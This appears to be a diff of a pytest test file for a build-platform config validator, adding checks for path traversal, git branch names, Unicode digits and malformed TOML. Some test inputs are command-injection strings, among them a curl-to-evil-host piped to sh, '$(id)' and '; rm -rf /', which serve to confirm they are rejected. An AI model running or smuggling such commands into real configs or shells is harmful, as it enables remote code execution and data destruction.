@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import copy
 import re
 from pathlib import Path
 from typing import Any
@@ -119,8 +120,8 @@ def test_fails_on_duplicate_names(example_raw: dict[str, Any]) -> None:
     example_raw["teams"][1]["name"] = "payments"
     example_raw["teams"][0]["services"][0]["name"] = "python"  # clashes with a base image of the same team
     assert problems(example_raw) == [
-        "teams[1].name: duplicate team name 'payments'",
         "teams[0].services[0].name: duplicate image name 'python' in team 'payments'",
+        "teams[1].name: duplicate team name 'payments'",
     ]
 
 
@@ -169,11 +170,146 @@ def test_fails_when_credentialed_upstream_has_no_secret(example_raw: dict[str, A
     ]
 
 
-def test_fails_on_path_escaping_the_repository(example_raw: dict[str, Any]) -> None:
-    example_raw["teams"][0]["services"][0]["context"] = "../elsewhere"
+INSIDE = "expected a relative path inside the repository (letters, digits, '._/+@-'; no '..', not absolute), got "
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("context", "../elsewhere"),
+        ("context", "/etc"),
+        ("dockerfile", "a/../../Dockerfile"),
+        ("context", "x; curl http://evil | sh #"),
+        ("context", "svc\x00"),
+        ("dockerfile", "$(id)"),
+        ("context", ""),
+    ],
+)
+def test_fails_on_path_escaping_the_repository_or_needing_quotes(
+    example_raw: dict[str, Any], key: str, value: str
+) -> None:
+    example_raw["teams"][0]["services"][0][key] = value
+    assert problems(example_raw) == [f"teams[0].services[0].{key}: {INSIDE}{value!r}"]
+
+
+@pytest.mark.parametrize("value", ["../../etc", "/images/python", "images/python; rm -rf /"])
+def test_fails_on_base_image_context_outside_the_repository(example_raw: dict[str, Any], value: str) -> None:
+    example_raw["teams"][0]["base_images"][0]["context"] = value
+    assert problems(example_raw) == [f"teams[0].base_images[0].context: {INSIDE}{value!r}"]
+
+
+@pytest.mark.parametrize("branch", ["", "has space", "a..b", "-dash", "end/", "x.lock", "a~b", "a@{b", "tab\tx"])
+def test_fails_on_branch_git_refuses(example_raw: dict[str, Any], branch: str) -> None:
+    example_raw["teams"][0]["services"][0]["branch"] = branch
+    assert problems(example_raw) == [f"teams[0].services[0].branch: expected a git branch name, got {branch!r}"]
+
+
+def test_accepts_ordinary_branch_names(example_raw: dict[str, Any]) -> None:
+    example_raw["teams"][0]["services"][0]["branch"] = "release/2026.11_hotfix-1"
+    config.parse(example_raw)
+
+
+@pytest.mark.parametrize(
+    ("path", "value", "expected"),
+    [
+        (("platform", "account"), "\uff11" * 12, "expected a 12-digit AWS account id"),
+        (("platform", "region"), "eu-west-\u0661", "expected an AWS region such as 'eu-west-1'"),
+        (("teams", 0, "workload_accounts", 0), "\u0661" * 12, "expected a 12-digit AWS account id"),
+    ],
+)
+def test_fails_on_unicode_digits(example_raw: dict[str, Any], path: tuple[Any, ...], value: str, expected: str) -> None:
+    target: Any = example_raw
+    for key in path[:-1]:
+        target = target[key]
+    target[path[-1]] = value
+    [problem] = problems(example_raw)
+    assert expected in problem and problem.endswith(repr(value))
+
+
+def test_fails_on_numeric_lambda_alias(example_raw: dict[str, Any]) -> None:
+    example_raw["teams"][0]["services"][0]["deploy"]["lambda"]["alias"] = "42"
     assert problems(example_raw) == [
-        "teams[0].services[0].context: expected a path inside the source repository, got '../elsewhere'"
+        "teams[0].services[0].deploy.lambda.alias: expected a Lambda alias name (not all digits), got '42'"
     ]
+
+
+def test_fails_on_eks_cluster_name_over_100_characters(example_raw: dict[str, Any]) -> None:
+    example_raw["teams"][1]["services"][0]["deploy"]["eks"]["cluster"] = "c" * 101
+    [problem] = problems(example_raw)
+    assert problem.startswith("teams[1].services[0].deploy.eks.cluster: expected an EKS cluster name (up to 100")
+
+
+def test_fails_on_two_services_deploying_to_one_target(example_raw: dict[str, Any]) -> None:
+    twin = copy.deepcopy(example_raw["teams"][0]["services"][0])
+    twin["name"] = "api-two"
+    example_raw["teams"][0]["services"].append(twin)
+    assert problems(example_raw) == [
+        "teams[0].services[1].deploy.ecs.service: ECS service payments/api is already the target of payments/api",
+        "teams[0].services[1].deploy.lambda.function_name: Lambda function 'payments-api' is already the target of "
+        "payments/api",
+    ]
+
+
+def test_fails_on_kms_key_in_another_region(example_raw: dict[str, Any]) -> None:
+    example_raw["registry"]["kms_key_arn"] = (
+        "arn:aws:kms:us-east-1:111111111111:key/" + "0" * 8 + "-0000-0000-0000-" + "0" * 12
+    )
+    assert problems(example_raw) == [
+        "registry.kms_key_arn: the key is in us-east-1, the platform in eu-west-1; ECR needs a key in the "
+        "repository's region"
+    ]
+
+
+def test_fails_on_unbounded_prefix_and_url(example_raw: dict[str, Any]) -> None:
+    example_raw["upstreams"][0]["prefix"] = "p" * 31
+    example_raw["upstreams"][-1]["url"] = "x" * 300
+    found = problems(example_raw)
+    assert found[0].startswith("upstreams[0].prefix: expected a lowercase ECR repository prefix")
+    assert found[1].startswith(
+        f"upstreams[{len(example_raw['upstreams']) - 1}].url: expected a registry host name, got 'xxx"
+    )
+    assert len(found[1]) < 200, "a long value is not echoed whole"
+
+
+def test_field_and_cross_field_problems_come_together_sorted_by_key_path(example_raw: dict[str, Any]) -> None:
+    example_raw["platform"]["region"] = "nowhere"
+    example_raw["teams"][1]["name"] = "payments"
+    example_raw["registry"]["keep_releases"] = 0
+    assert [p.split(":")[0] for p in problems(example_raw)] == [
+        "platform.region",
+        "registry.keep_releases",
+        "teams[1].name",
+    ]
+
+
+def test_unknown_key_with_a_newline_is_escaped(example_raw: dict[str, Any]) -> None:
+    example_raw["platform"]["bad\nkey"] = 1
+    [problem] = problems(example_raw)
+    assert problem.startswith("platform.bad\\nkey: unknown key") and "\n" not in problem
+
+
+def test_huge_value_is_not_echoed_whole(example_raw: dict[str, Any]) -> None:
+    example_raw["platform"]["name"] = "x" * 5_000_000
+    [problem] = problems(example_raw)
+    assert len(problem) < 200 and "(5000000 chars)" in problem
+
+
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        ("name = 1".encode("utf-16"), "UTF-16 text; save it as UTF-8"),
+        (b"\xef\xbb\xbf[platform]\n", "starts with a UTF-8 byte-order mark"),
+        (b"[platform]\nname = '\xff'\n", "not UTF-8 (byte 19, line 2); save it as UTF-8"),
+        (b"x = " + b"[" * 5000 + b"]" * 5000 + b"\n", "tables or arrays nested too deeply to read"),
+        (b"x = " + b"{a = " * 3000 + b"1" + b"}" * 3000 + b"\n", "tables or arrays nested too deeply to read"),
+    ],
+)
+def test_fails_on_unreadable_bytes_with_the_file_named(tmp_path: Path, data: bytes, message: str) -> None:
+    path = tmp_path / "platform.toml"
+    path.write_bytes(data)
+    with pytest.raises(config.ConfigError, match=re.escape(f"{path}: {message}")) as info:
+        config.load(path)
+    assert info.value.exit_code == 2
 
 
 def test_reports_every_problem_at_once(example_raw: dict[str, Any]) -> None:
